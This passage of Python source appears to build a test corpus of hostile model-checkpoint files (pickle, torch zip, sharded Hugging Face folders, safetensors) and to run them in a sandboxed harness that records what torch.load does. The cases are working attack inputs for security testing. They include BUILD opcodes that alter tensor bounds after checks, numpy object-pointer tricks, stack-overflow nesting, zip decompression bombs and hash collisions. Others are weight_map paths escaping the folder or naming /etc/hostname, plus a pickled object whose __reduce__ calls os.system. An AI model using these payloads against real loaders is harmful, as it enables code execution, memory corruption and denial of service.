    """{'state_dict': {'w': t}} where t is a 4-float tensor, memoised and then attacked by `after` (BUILD…)."""
    t = tensor("0", n, (n,), (1,)) + b"\x94"  # MEMOIZE (memo 0)
    sd = CALL(G("collections", "OrderedDict")) + b"(" + L("w") + t + b"u"
    body = DICT((L("state_dict"), sd)) + b"h\x00" + after + b"0"  # BINGET 0, attack, POP
    torch_zip(p, pk(body, 4), {"0": floats(*range(n))})


@case("2", "zip", "unsafe", "BUILD (None, {'stride': (2**30,)}) on a tensor record after its bounds check")
def gen_build_tensor_stride(p, name):
    _zip_one_tensor_then(p, L((None, {"stride": (1 << 30,)})) + b"b")


@case("2", "zip", "unsafe", "BUILD (None, {'shape': (2**20,)}) on a tensor record")
def gen_build_tensor_shape(p, name):
    _zip_one_tensor_then(p, L((None, {"shape": (1 << 20,)})) + b"b")


@case("2", "zip", "unsafe", "BUILD (None, {'offset': 2**40}) on a tensor record")
def gen_build_tensor_offset(p, name):
    _zip_one_tensor_then(p, L((None, {"offset": 1 << 40})) + b"b")


@case("2", "zip", "unsafe", "BUILD with torch's 4-tuple Tensor.__setstate__ state (set_: storage, offset, size, stride)")
def gen_build_tensor_setstate_tuple(p, name):
    _zip_one_tensor_then(p, T(storage_pid("0", 4), L(0), L((1 << 20,)), L((1,))) + b"b")


@case("2", "zip", "unsafe", "BUILD on the storage record: numel and offset moved after the tensor was checked")
def gen_build_storage_numel(p, name):
    t = CALL(G("torch._utils", "_rebuild_tensor_v2"), storage_pid("0", 4) + b"\x94", L(0), L((4,)), L((1,)),
             L(False), CALL(G("collections", "OrderedDict")))
    sd = CALL(G("collections", "OrderedDict")) + b"(" + L("w") + t + b"u"
    body = DICT((L("state_dict"), sd)) + b"h\x00" + L((None, {"numel": 1 << 28, "offset": 0})) + b"b0"
    torch_zip(p, pk(body, 4), {"0": floats(*range(4))})


@case("2", "zip", "unsafe", "BUILD sets __defaults__ on the reader's stand-in for _rebuild_tensor_v2 (process-wide)")
def gen_build_on_reader_function(p, name):
    entries, storages = template_entries()
    attack = G("torch._utils", "_rebuild_tensor_v2") + L((None, {"__defaults__": (True, None, None)})) + b"b0"
    torch_zip(p, pk(attack + state_dict_pkl(entries)), storages)


@case("2", "zip", "unsafe", "SETITEMS/BUILD on collections.OrderedDict class object (a shared type)")
def gen_build_on_ordereddict_class(p, name):
    entries, storages = template_entries()
    attack = G("collections", "OrderedDict") + L((None, {"fromkeys": 1})) + b"b0"
    torch_zip(p, pk(attack + state_dict_pkl(entries)), storages)


def _np(name: str) -> bytes:
    return G("numpy.core.multiarray", name)


@case("2", "pickle", "unsafe", "numpy dtype('O') whose object flag is cleared by BUILD: raw bytes become pointers")
def gen_numpy_dtype_object_flag_cleared(p, name):
    dt = CALL(G("numpy", "dtype"), L("O8"), L(False), L(True)) + L((3, "|", None, None, None, -1, -1, 0)) + b"b"
    arr = CALL(_np("_reconstruct"), G("numpy", "ndarray"), L((0,)), B(b"b"))
    state = T(L(1), L((4,)), dt, L(False), B(b"\x41" * 32))
    p.write_bytes(pk(DICT((L("scores"), arr + state + b"b")), 3))


@case("2", "pickle", "unsafe", "numpy object array (dtype 'O' with a list state): objects reach numpy")
def gen_numpy_object_array(p, name):
    dt = CALL(G("numpy", "dtype"), L("O8"), L(False), L(True))
    arr = CALL(_np("_reconstruct"), G("numpy", "ndarray"), L((0,)), B(b"b"))
    state = T(L(1), L((2,)), dt, L(False), L([1, "x"]))
    p.write_bytes(pk(DICT((L("scores"), arr + state + b"b")), 3))


@case("2", "pickle", "unsafe", "numpy structured dtype with an object field set by BUILD")
def gen_numpy_dtype_object_field(p, name):
    odt = CALL(G("numpy", "dtype"), L("O8"), L(False), L(True))
    dt = CALL(G("numpy", "dtype"), L("V8"), L(False), L(True)) + T(L(3), L("|"), b"N", L(("a",)),
                                                                  b"}" + L("a") + T(odt, L(0)) + b"s",
                                                                  L(8), L(1), L(0)) + b"b"
    arr = CALL(_np("_reconstruct"), G("numpy", "ndarray"), L((0,)), B(b"b"))
    state = T(L(1), L((4,)), dt, L(False), B(b"\x41" * 32))
    p.write_bytes(pk(DICT((L("scores"), arr + state + b"b")), 3))


@case("2", "pickle", "unsafe", "a 200,000-deep tuple used as a dict key (hash recursion overflows the C stack)")
def gen_deep_tuple_dict_key(p, name):
    p.write_bytes(pk(b"}" + b")" + b"\x85" * 200_000 + b"Ns"))


@case("2", "pickle", "unsafe", "a 200,000-deep tuple inside frozenset([...])")
def gen_deep_tuple_frozenset(p, name):
    p.write_bytes(pk(CALL(G("builtins", "frozenset"), b"]" + b")" + b"\x85" * 200_000 + b"a")))


@case("2", "zip", "unsafe", "a 200,000-deep list as the meta of a real checkpoint (walks recurse)")
def gen_deep_list_in_meta(p, name):
    # EMPTY_LIST, then 200k times: EMPTY_LIST, swap-free nesting via MARK…APPENDS is impossible; use list-of-list
    deep = b"]" * 200_000 + b"a" * 199_999
    zip_with_payload_in_sd(p, deep)


@case("2", "zip", "unsafe", "a 200,000-deep dict as the value of a state_dict entry")
def gen_deep_dict_in_state_dict(p, name):
    deep = b"".join(b"}" + L("k") for _ in range(200_000)) + b"}" + b"s" * 200_000
    entries, storages = template_entries()
    torch_zip(p, pk(state_dict_pkl(entries + [("deep", deep)])), storages)


# ===============================================================================================================
# 3. Resource exhaustion from small files
# ===============================================================================================================
def dag(depth: int, kind: str = "list") -> bytes:
    """L0 = []; L(i+1) = [Li, Li] (or {'a': Li, 'b': Li}): a 2**depth-node tree in O(depth) bytes."""
    def get(i):
        return b"h" + bytes([i]) if i < 256 else b"j" + struct.pack("<I", i)

    out = b"]\x940"  # memo 0, popped: every level lives only in the memo until the last is fetched
    for i in range(depth):
        if kind == "list":
            out += b"](" + get(i) + get(i) + b"e\x940"
        else:
            out += b"}(" + L("a") + get(i) + L("b") + get(i) + b"u\x940"
    return out + get(depth)


@case("3", "zip", "bounded", "L=[L,L] 60 levels deep in meta (2**60 nodes as a tree)")
def gen_dag_list_in_meta(p, name):
    zip_with_payload_in_sd(p, dag(60))


@case("3", "zip", "bounded", "{'a': D, 'b': D} 60 levels deep as a top-level section")
def gen_dag_dict_section(p, name):
    entries, storages = template_entries()
    torch_zip(p, pk(state_dict_pkl(entries, [(L("message_hub"), dag(60, "dict"))])), storages)


@case("3", "zip", "bounded", "a DAG as meta.cfg (config walks and diff --config)")
def gen_dag_meta_cfg(p, name):
    entries, storages = template_entries()
    meta = b"}" + L("cfg") + dag(60, "dict") + b"s"
    torch_zip(p, pk(state_dict_pkl(entries, [(L("meta"), meta)])), storages)


@case("3", "zip", "bounded", "a DAG of dicts inside the state_dict itself")
def gen_dag_in_state_dict(p, name):
    entries, storages = template_entries()
    torch_zip(p, pk(state_dict_pkl(entries + [("extra", dag(60, "dict"))])), storages)


@case("3", "zip", "bounded", "a self-referencing list L = [L] in meta (a cycle)")
def gen_cycle_list_in_meta(p, name):
    zip_with_payload_in_sd(p, b"]\x94h\x00a")


@case("3", "zip", "bounded", "the same tensor under 100,000 keys (shared storage, legitimate but large)")
def gen_shared_tensor_many_keys(p, name):
    t = tensor("0", 4, (4,), (1,)) + b"\x94"
    body = b"(" + L("k0") + t + b"".join(L(f"k{i}") + b"h\x00" for i in range(1, 100_000)) + b"u"
    torch_zip(p, pk(DICT((L("state_dict"), CALL(G("collections", "OrderedDict")) + body)), 4),
              {"0": floats(1, 2, 3, 4)}, deflate={"data.pkl"})


@case("3", "zip", "unsafe", "builtins.bytearray(1.5 GiB) in meta")
def gen_bytearray_huge(p, name):
    zip_with_payload_in_sd(p, CALL(G("builtins", "bytearray"), L(1536 << 20)))


@case("3", "zip", "unsafe", "builtins.bytes(1.5 GiB) in meta")
def gen_bytes_huge(p, name):
    zip_with_payload_in_sd(p, CALL(G("builtins", "bytes"), L(1536 << 20)))


@case("3", "zip", "unsafe", "builtins.list(range(10**10)) in meta")
def gen_list_of_range(p, name):
    zip_with_payload_in_sd(p, CALL(G("builtins", "list"), CALL(G("builtins", "range"), L(10 ** 10))))


@case("3", "zip", "bounded", "builtins.range(2**62) as a meta value (lazy until someone walks it)")
def gen_range_huge_in_meta(p, name):
    zip_with_payload_in_sd(p, CALL(G("builtins", "range"), L(1 << 62)))


@case("3", "zip", "unsafe", "torch.Size(range(2**62)) in meta")
def gen_torch_size_range(p, name):
    zip_with_payload_in_sd(p, CALL(G("torch", "Size"), CALL(G("builtins", "range"), L(1 << 62))))


@case("3", "zip", "unsafe", "builtins.set(range(10**9)) in meta")
def gen_set_of_range(p, name):
    zip_with_payload_in_sd(p, CALL(G("builtins", "set"), CALL(G("builtins", "range"), L(10 ** 9))))


@case("3", "zip", "unsafe", "collections.Counter(range(10**9)) in meta")
def gen_counter_of_range(p, name):
    zip_with_payload_in_sd(p, CALL(G("collections", "Counter"), CALL(G("builtins", "range"), L(10 ** 9))))


@case("3", "zip", "unsafe", "collections.deque(range(10**9)) in meta")
def gen_deque_of_range(p, name):
    zip_with_payload_in_sd(p, CALL(G("collections", "deque"), CALL(G("builtins", "range"), L(10 ** 9))))


@case("3", "pickle", "unsafe", "numpy _reconstruct(ndarray, (1.5e9,), 'b') then BUILD with 4 bytes")
def gen_numpy_reconstruct_huge(p, name):
    arr = CALL(_np("_reconstruct"), G("numpy", "ndarray"), L((1_500_000_000,)), B(b"b"))
    state = T(L(1), L((1_500_000_000,)), CALL(G("numpy", "dtype"), L("u1"), L(False), L(True)), L(False),
              B(b"\0" * 4))
    p.write_bytes(pk(DICT((L("scores"), arr + state + b"b")), 3))


@case("3", "zip", "unsafe", "a stride-0 view of 1.5e8 elements over a 1-element storage (600 MB if expanded)")
def gen_stride0_view_1e8(p, name):
    torch_zip(p, pk(state_dict_pkl([("w", tensor("0", 1, (150_000_000,), (0,)))])), {"0": floats(1.0)})


@case("3", "zip", "unsafe", "a stride-0 view of 2**80 elements over a 1-element storage")
def gen_stride0_view_2_80(p, name):
    torch_zip(p, pk(state_dict_pkl([("w", tensor("0", 1, (1 << 40, 1 << 40), (0, 0)))])), {"0": floats(1.0)})


@case("3", "zip", "unsafe", "300 stride-0 views of 2**22 elements each over one 1-element storage (5 GB total)")
def gen_stride0_many_views(p, name):
    ents = [(f"w{i}", tensor("0", 1, (1 << 22,), (0,))) for i in range(300)]
    torch_zip(p, pk(state_dict_pkl(ents)), {"0": floats(1.0)})


@case("3", "zip", "unsafe", "a deflated data.pkl that inflates to 2 GiB (2 MB file)")
def gen_zip_deflate_bomb_datapkl(p, name):
    n = 2048 << 20
    zip_with_raw_deflate(p, [("archive/data.pkl", (deflate_bomb(n), n, crc_of_zeros(n))),
                             ("archive/byteorder", b"little"), ("archive/version", b"3\n")])


@case("3", "zip", "unsafe", "a deflated storage entry that inflates to 2 GiB behind a real tensor record")
def gen_zip_deflate_bomb_storage(p, name):
    n = 2048 << 20
    data = pk(state_dict_pkl([("w", tensor("0", n // 4, (n // 4,), (1,)))]))
    zip_with_raw_deflate(p, [("archive/data.pkl", data), ("archive/byteorder", b"little"),
                             ("archive/data/0", (deflate_bomb(n), n, crc_of_zeros(n))),
                             ("archive/version", b"3\n")])


def _colliding_ints(n: int) -> list[int]:
    mod = (1 << 61) - 1  # CPython hashes ints modulo 2**61 - 1: these all hash to 7
    return [7 + i * mod for i in range(n)]


@case("3", "zip", "unsafe", "100,000 int keys that all hash alike (quadratic dict build)")
def gen_hash_collision_dict(p, name):
    keys = _colliding_ints(100_000)
    body = b"}(" + b"".join(L(k) + b"N" for k in keys) + b"u"
    zip_with_payload_in_sd(p, body)


@case("3", "zip", "unsafe", "100,000 hash-colliding ints in builtins.set([...])")
def gen_hash_collision_set(p, name):
    keys = _colliding_ints(100_000)
    zip_with_payload_in_sd(p, CALL(G("builtins", "set"), b"](" + b"".join(L(k) for k in keys) + b"e"))


@case("3", "zip", "bounded", "a state_dict key 'module.' * 300000 (prefix stripping loops), deflated to a few KB")
def gen_module_prefix_300k(p, name):
    key = "module." * 300_000 + "w"
    torch_zip(p, pk(state_dict_pkl([(key, tensor("0", 4, (4,), (1,)))])), {"0": floats(1, 2, 3, 4)},
              deflate={"data.pkl"})


@case("3", "zip", "bounded", "10,000 keys each 'module.' * 30 deep (every key has the prefix, 30 times)")
def gen_module_prefix_many_keys(p, name):
    t = tensor("0", 4, (4,), (1,)) + b"\x94"
    ents = [("module." * 30 + "k0", t)] + [("module." * 30 + f"k{i}", b"h\x00") for i in range(1, 10_000)]
    torch_zip(p, pk(state_dict_pkl(ents), 4), {"0": floats(1, 2, 3, 4)}, deflate={"data.pkl"})


@case("3", "pickle", "bounded", "LONG_BINPUT 0xFFFFFFF0: a memo index that makes C pickle allocate gigabytes")
def gen_memo_index_bomb(p, name):
    p.write_bytes(b"\x80\x02]r\xf0\xff\xff\xff.")


@case("3", "pickle", "unsafe", "BINUNICODE claiming 4 GiB in a 20-byte file")
def gen_binunicode_length_lie(p, name):
    p.write_bytes(b"\x80\x02X\xff\xff\xff\xff" + b"abc")


@case("3", "pickle", "bounded", "protocol-4 FRAME claiming 2**62 bytes (torch: MemoryError; '{}' to a reader)")
def gen_frame_length_lie(p, name):
    p.write_bytes(b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"}.")


def _workdir(p: Path, log_line: str, repeat: int = 1) -> None:
    p.mkdir(parents=True, exist_ok=True)
    entries, storages = template_entries()
    torch_zip(p / "epoch_1.pth", pk(state_dict_pkl(entries, [(L("meta"), L({"epoch": 1, "iter": 4}))])), storages)
    run = p / "20260101_000000"
    run.mkdir(exist_ok=True)
    good = "2026/01/01 00:00:00 - mmengine - INFO - Epoch(val) [1][4/4]    acc/top1: 0.5000  acc/top5: 0.9000\n"
    (run / "20260101_000000.log").write_text(good + (log_line + "\n") * repeat)


@case("3", "workdir", "bounded", "a log line 'Epoch(val)' + 100k spaces: the VAL_RE \\s*(...)?\\s* backtracks")
def gen_runs_log_backtrack_spaces(p, name):
    _workdir(p, "2026/01/01 00:00:00 - mmengine - INFO - Epoch(val)" + " " * 100_000 + "x")


@case("3", "workdir", "bounded", "200 log lines 'Epoch(val) [' + 5,000 spaces")
def gen_runs_log_backtrack_many(p, name):
    _workdir(p, "Epoch(val) [" + " " * 5_000 + "1 x", repeat=200)


@case("3", "workdir", "bounded", "a log line with 50,000 'Epoch(val)' starts and digit runs")
def gen_runs_log_backtrack_starts(p, name):
    _workdir(p, ("Epoch(val)[1/" + "1" * 40 + "x ") * 5_000 + "Iter(train) [" + " " * 50_000 + "1")


# ===============================================================================================================
# 4. Misreads of genuine files (written by torch itself)
# ===============================================================================================================
def _genuine_sd():
    import torch

    g = torch.Generator().manual_seed(11)
    sd = {k: torch.rand(shape, generator=g) for k, shape in TEMPLATE_KEYS}
    sd["head.num_batches_tracked"] = torch.tensor(7)
    sd["head.scale"] = torch.nn.Parameter(torch.ones(2, dtype=torch.float16))
    return sd


for _proto in (2, 3, 4, 5):
    def _make(proto):
        def gen(p, name):
            import torch

            torch.save({"state_dict": _genuine_sd(), "meta": {"epoch": 1}}, str(p), pickle_protocol=proto,
                       _use_new_zipfile_serialization=False)
        gen.__name__ = f"gen_legacy_protocol{proto}"
        return gen
    case("4", "legacy", "data", f"torch.save(..., pickle_protocol={_proto}, _use_new_zipfile_serialization=False)",
         tensors=5)(_make(_proto))


@case("4", "zip", "data", "torch.save(..., pickle_protocol=4) zip (the new format with protocol 4)", tensors=5)
def gen_zip_protocol4(p, name):
    import torch

    torch.save({"state_dict": _genuine_sd(), "meta": {"epoch": 1}}, str(p), pickle_protocol=4)


class _Payload:
    """Pickles as os.system(cmd): how a real attacker gets a payload into a file written by torch.save itself."""

    def __init__(self, cmd: str):
        self.cmd = cmd

    def __reduce__(self):
        return (os.system, (self.cmd,))


def _hf_bin_folder(p: Path, legacy: bool = False, payload: bool = False, traversal: bool = False,
                   missing: bool = False) -> None:
    import torch

    p.mkdir(parents=True, exist_ok=True)
    sd = _genuine_sd()
    keys = list(sd)
    shards = {"pytorch_model-00001-of-00002.bin": keys[:3], "pytorch_model-00002-of-00002.bin": keys[3:]}
    weight_map = {}
    for fname, ks in shards.items():
        part = {k: sd[k] for k in ks}
        second = fname.startswith("pytorch_model-00002")
        if payload and second:  # the shard's real tensors plus an object whose __reduce__ is os.system
            torch.save({**part, "extra": _Payload(sh(p.name))}, str(p / fname))
        elif not (missing and second):
            torch.save(part, str(p / fname), _use_new_zipfile_serialization=not legacy)
        weight_map.update({k: fname if not (traversal and k == keys[0]) else "../hf_escape_target.bin" for k in ks})
    if traversal:  # a real file outside the folder: a reader that follows the path reads it
        torch.save({keys[0]: sd[keys[0]]}, str(p.parent / "hf_escape_target.bin"))
    total = sum(t.numel() * t.element_size() for t in sd.values())
    (p / "pytorch_model.bin.index.json").write_text(json.dumps({"metadata": {"total_size": total},
                                                                  "weight_map": weight_map}, indent=2))
    (p / "config.json").write_text(json.dumps({"model_type": "bert", "architectures": ["BertModel"]}))


@case("4", "sharded", "data", "transformers-4 folder: pytorch_model-0000N-of-00002.bin + .index.json", tensors=5)
def gen_hf_bin_sharded_folder(p, name):
    _hf_bin_folder(p)


@case("4", "sharded", "data", "the same, given as the pytorch_model.bin.index.json path", tensors=5,
      target="pytorch_model.bin.index.json")
def gen_hf_bin_sharded_index_path(p, name):
    _hf_bin_folder(p)


@case("4", "sharded", "data", "transformers-4 shards in the legacy (non-zip) format", tensors=5)
def gen_hf_bin_sharded_legacy(p, name):
    _hf_bin_folder(p, legacy=True)


@case("4", "sharded", "code", "a sharded .bin folder whose second shard calls os.system")
def gen_hf_bin_sharded_payload(p, name):
    _hf_bin_folder(p, payload=True)


@case("4", "sharded", "unsafe", "a .bin index whose weight_map points outside the folder (../hf_escape_target.bin)")
def gen_hf_bin_sharded_traversal(p, name):
    _hf_bin_folder(p, traversal=True)


@case("4", "sharded", "unsafe", "a .bin index naming a shard that is missing")
def gen_hf_bin_sharded_missing(p, name):
    _hf_bin_folder(p, missing=True)


@case("4", "legacy", "bounded", "legacy file listing storage '0' twice with two data blocks (torch keeps the second)")
def gen_legacy_duplicate_storage_key(p, name):
    obj = pk(DICT((L("state_dict"), CALL(G("collections", "OrderedDict")) + b"(" + L("w")
                   + legacy_tensor("0", 4, (4,), (1,)) + b"u")))
    p.write_bytes(legacy_file(obj, [("0", floats(1, 2, 3, 4), 4), ("0", floats(5, 6, 7, 8), 4)]))


@case("4", "sharded", "data", "a Hugging Face hub cache snapshot: the shards are symlinks into ../../blobs/", tensors=5,
      target="snapshots/0123abc")
def gen_hf_bin_cache_symlinks(p, name):
    snap = p / "snapshots" / "0123abc"
    _hf_bin_folder(snap)
    blobs = p / "blobs"
    blobs.mkdir()
    for f in sorted(snap.iterdir()):
        digest = hashlib.sha256(f.read_bytes()).hexdigest()
        f.rename(blobs / digest)
        f.symlink_to(Path("..", "..", "blobs", digest))


@case("4", "sharded", "unsafe", "a .bin index whose weight_map names an absolute path (/etc/hostname)")
def gen_hf_bin_sharded_absolute(p, name):
    _hf_bin_folder(p)
    index = p / "pytorch_model.bin.index.json"
    doc = json.loads(index.read_text())
    first = next(iter(doc["weight_map"]))
    doc["weight_map"][first] = "/etc/hostname"
    index.write_text(json.dumps(doc, indent=2))


@case("3", "workdir", "bounded", "vis_data/scalars.json with a line nested 100,000 arrays deep")
def gen_runs_scalars_deep_json(p, name):
    _workdir(p, "")
    vis = p / "20260101_000000" / "vis_data"
    vis.mkdir()
    (vis / "scalars.json").write_text('{"epoch": 1, "acc/top1": 0.5, "step": 1}\n'
                                      + '{"x": ' + "[" * 100_000 + "]" * 100_000 + ', "step": 2}\n')


@case("3", "workdir", "bounded", "vis_data/scalars.json of 200,000 lines (each a new metric name)")
def gen_runs_scalars_many_metrics(p, name):
    _workdir(p, "")
    vis = p / "20260101_000000" / "vis_data"
    vis.mkdir()
    (vis / "scalars.json").write_text("".join(f'{{"m{i}": 0.5, "epoch": 1, "step": {i}}}\n' for i in range(200_000)))


# ===============================================================================================================
# 6. safetensors: validated as the safetensors library validates
# ===============================================================================================================
def st_file(header: dict | bytes, data: bytes, size_field: int | None = None) -> bytes:
    h = header if isinstance(header, bytes) else json.dumps(header, separators=(",", ":")).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h) if size_field is None else size_field) + h + data


def _st_two(a=(0, 16), b=(16, 32), shape_a=(4,), shape_b=(4,), dtype="F32"):
    return {"a": {"dtype": dtype, "shape": list(shape_a), "data_offsets": list(a)},
            "b": {"dtype": dtype, "shape": list(shape_b), "data_offsets": list(b)}}


@case("6", "safetensors", "unsafe", "duplicate tensor names in the JSON header (json keeps the last)")
def gen_st_duplicate_keys(p, name):
    h = (b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},'
         b'"a":{"dtype":"F32","shape":[4],"data_offsets":[16,32]}}')
    p.write_bytes(st_file(h, floats(*range(8))))


@case("6", "safetensors", "unsafe", "two tensors whose data_offsets overlap")
def gen_st_overlapping_offsets(p, name):
    p.write_bytes(st_file(_st_two(a=(0, 16), b=(8, 24)), floats(*range(6))))


@case("6", "safetensors", "unsafe", "two tensors on the same bytes (identical offsets)")
def gen_st_aliased_offsets(p, name):
    p.write_bytes(st_file(_st_two(a=(0, 16), b=(0, 16)), floats(*range(4))))


@case("6", "safetensors", "unsafe", "a hole between two tensors' data")
def gen_st_offsets_hole(p, name):
    p.write_bytes(st_file(_st_two(a=(0, 16), b=(24, 40)), floats(*range(10))))


@case("6", "safetensors", "unsafe", "data_offsets past the end of the file")
def gen_st_offsets_past_end(p, name):
    p.write_bytes(st_file(_st_two(a=(0, 16), b=(16, 1 << 40), shape_b=((1 << 40) // 4 - 4,)), floats(*range(8))))


@case("6", "safetensors", "unsafe", "begin > end in data_offsets")
def gen_st_offsets_reversed(p, name):
    p.write_bytes(st_file(_st_two(a=(16, 0), b=(16, 32)), floats(*range(8))))


@case("6", "safetensors", "unsafe", "shape x dtype does not match the offsets' byte count")
def gen_st_shape_mismatch(p, name):
    p.write_bytes(st_file(_st_two(shape_a=(5,)), floats(*range(8))))


@case("6", "safetensors", "unsafe", "shape product overflows 64 bits ([2**40, 2**40, 2**40])")
def gen_st_shape_overflow(p, name):
    p.write_bytes(st_file(_st_two(shape_a=(1 << 40, 1 << 40, 1 << 40)), floats(*range(8))))


@case("6", "safetensors", "unsafe", "header length field 2**63")
def gen_st_header_size_huge(p, name):
    p.write_bytes(st_file(_st_two(), floats(*range(8)), size_field=1 << 63))


@case("6", "safetensors", "unsafe", "an unknown dtype string")
def gen_st_unknown_dtype(p, name):
    p.write_bytes(st_file(_st_two(dtype="F33"), floats(*range(8))))


@case("6", "safetensors", "unsafe", "__metadata__ with a non-string value")
def gen_st_metadata_nonstring(p, name):
    p.write_bytes(st_file({"__metadata__": {"format": {"nested": 1}}, **_st_two()}, floats(*range(8))))


@case("6", "safetensors", "unsafe", "a header nested 100,000 levels deep in __metadata__")
def gen_st_header_deep_nesting(p, name):
    h = b'{"__metadata__":{"x":' + b"[" * 100_000 + b"]" * 100_000 + b"}," + json.dumps(_st_two()).encode()[1:]
    p.write_bytes(st_file(h, floats(*range(8))))


@case("6", "safetensors", "data", "control: a valid two-tensor file (the library reads it)", tensors=2)
def gen_st_valid_control(p, name):
    p.write_bytes(st_file(_st_two(), floats(*range(8))))


@case("6", "safetensors", "unsafe", "a header that is not UTF-8")
def gen_st_header_not_utf8(p, name):
    p.write_bytes(st_file(b'{"a\xff":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}', floats(*range(4))))


@case("6", "safetensors", "unsafe", "valid JSON followed by garbage inside the header length")
def gen_st_header_trailing_garbage(p, name):
    h = json.dumps(_st_two(), separators=(",", ":")).encode() + b"}garbage"
    p.write_bytes(st_file(h, floats(*range(8))))


@case("6", "safetensors", "bounded", "20,000 zero-size tensors in one header (1 MB of JSON)")
def gen_st_many_empty_tensors(p, name):
    h = {f"t{i}": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]} for i in range(20_000)}
    h["a"] = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    p.write_bytes(st_file(h, floats(1, 2)))


# ---- templates (not cases): what diff/graft/average pair the hostile file with ----------------------------------
def write_templates(out: Path) -> None:
    entries, storages = template_entries()
    torch_zip(out / "template.pth", pk(state_dict_pkl(entries, [(L("meta"), L({"epoch": 1}))])), storages)


def _scripted_module():
    import torch

    class Payload(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.x = 1

        @torch.jit.export
        def __getstate__(self):
            return (self.x, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[int, bool]):
            print("HOSTILE_PAYLOAD_RAN")
            self.x = state[0]
            self.training = state[1]

        def forward(self, x):
            return x + self.x

    return Payload()


def _normalise_zip(p: Path) -> None:
    """Rewrite a torch-written zip with fixed dates and entry order kept, so the file is byte-deterministic."""
    with zipfile.ZipFile(p) as zf:
        entries = [(i.filename, zf.read(i)) for i in zf.infolist()]
    write_zip(p, entries)


# ===============================================================================================================
# ground truth
# ===============================================================================================================
TRUTH_TIMEOUT_S = 8
TRUTH_AS_BYTES = 4 << 30


def _walk_count(obj, torch, limit=2_000_000):
    """Tensors in `obj` (each object once: shared references and cycles are fine)."""
    seen, stack, n, nodes = set(), [obj], 0, 0
    while stack and nodes < limit:
        o = stack.pop()
        if id(o) in seen:
            continue
        seen.add(id(o))
        nodes += 1
        if isinstance(o, torch.Tensor):
            n += 1
        elif isinstance(o, dict):
            stack.extend(o.values())
        elif isinstance(o, (list, tuple, set, frozenset)):
            stack.extend(o)
        elif hasattr(o, "state_dict") and hasattr(o, "named_parameters"):
            stack.extend(o.state_dict().values())
    return n


def _truth_child(info: dict, path: str, weights_only: bool) -> dict:
    import torch

    form = info["form"]
    if form == "safetensors":
        from safetensors.torch import load_file

        sd = load_file(path)
        return {"outcome": "ok", "tensors": len(sd)}
    if form == "sharded":
        folder = path if os.path.isdir(path) else os.path.dirname(path)
        index = json.load(open(os.path.join(folder, "pytorch_model.bin.index.json")))
        n = 0
        for shard in sorted(set(index["weight_map"].values())):
            n += _walk_count(torch.load(os.path.join(folder, shard), weights_only=weights_only,
                                        map_location="cpu"), torch)
        return {"outcome": "ok", "tensors": n}
    obj = torch.load(path, weights_only=weights_only, map_location="cpu")
    return {"outcome": "ok", "tensors": _walk_count(obj, torch)}


def _start_truth(info: dict, path: str, weights_only: bool) -> dict:
    """Fork a child that runs `_truth_child` (cwd a fresh temp dir, RLIMIT_AS); see the module docstring."""
    import resource

    tmp = tempfile.mkdtemp(prefix="hostile-truth-")
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:  # child
        try:
            import faulthandler

            faulthandler.disable()  # a crash of torch.load is an outcome recorded below, not a report for the log
            os.close(r)
            os.chdir(tmp)
            resource.setrlimit(resource.RLIMIT_AS, (TRUTH_AS_BYTES, TRUTH_AS_BYTES))
            fd = os.open("out.txt", os.O_WRONLY | os.O_CREAT, 0o600)
            os.dup2(fd, 1)
            os.dup2(fd, 2)
            try:
                res = _truth_child(info, path, weights_only)
            except BaseException as exc:  # noqa: BLE001 - the file decides what is raised
                res = {"outcome": "error", "error": f"{type(exc).__name__}: {str(exc)[:160]}"}
            sys.stdout.flush()
            os.write(w, json.dumps(res).encode()[:60000])
        finally:
            os._exit(0)
    os.close(w)
    return {"pid": pid, "r": r, "tmp": tmp, "deadline": time.monotonic() + TRUTH_TIMEOUT_S, "status": None}


def _poll_truth(job: dict) -> dict | None:
    """The child's result once it ended (or was killed at its deadline); None while it runs."""
    import signal

    done, status = os.waitpid(job["pid"], os.WNOHANG)
    if not done:
        if time.monotonic() < job["deadline"]:
            return None
        os.kill(job["pid"], signal.SIGKILL)
        os.waitpid(job["pid"], 0)
        status = None
    raw = b""
    os.set_blocking(job["r"], False)
    try:
        raw = os.read(job["r"], 65536)
    except BlockingIOError:
        pass
    os.close(job["r"])
    if status is None:
        res = {"outcome": "timeout"}
    elif os.WIFSIGNALED(status):
        res = {"outcome": f"signal {signal.Signals(os.WTERMSIG(status)).name}"}
    else:
        try:
            res = json.loads(raw.decode())
        except ValueError:
            res = {"outcome": "error", "error": "child died without a result"}
    tmp = job["tmp"]
    out = open(os.path.join(tmp, "out.txt"), errors="replace").read() if os.path.exists(
        os.path.join(tmp, "out.txt")) else ""
    res["payload_ran"] = any(n.startswith(SENT) for n in os.listdir(tmp)) or MARKER in out
    shutil.rmtree(tmp, ignore_errors=True)
    return res


def ground_truths(tasks: list[tuple[str, dict, str]], parallel: int = 2) -> dict[str, dict]:
    """{name: truth} for (name, info, path) tasks: weights_only=False and True, `parallel` children at a time."""
    todo = [(name, info, path, wo) for name, info, path in tasks if info["form"] != "workdir"
            for wo in (False, True)]
    running, got = [], {}
    while todo or running:
        while todo and len(running) < parallel:
            name, info, path, wo = todo.pop(0)
            running.append(((name, wo), _start_truth(info, path, wo)))
        still = []
        for key, job in running:
            res = _poll_truth(job)
            if res is None:
                still.append((key, job))
            else:
                got[key] = res
        running = still
        time.sleep(0.02)
    out = {}
    for name, info, _ in tasks:
        if info["form"] == "workdir":
            out[name] = None
            continue
        full, safe = got[(name, False)], got[(name, True)]
        full["weights_only"] = (safe["outcome"] if safe["outcome"] != "error"
                                else "error: " + safe.get("error", "")[:80])
        full["weights_only_payload_ran"] = safe["payload_ran"]
        out[name] = full
    return out


def ground_truth(info: dict, path: str) -> dict | None:
    return ground_truths([("x", info, path)])["x"]


# ===============================================================================================================
_SOURCE_HASH = hashlib.sha256(Path(__file__).read_bytes()).hexdigest()[:16]  # of the code that runs, read once


def source_hash() -> str:
    return _SOURCE_HASH


def case_path(out: Path, info: dict) -> Path:
    """The path a command gets: the file, the folder, or a file inside the folder (`target`)."""
    base = out / info["path"]
    return base / info["target"] if info.get("target") else base


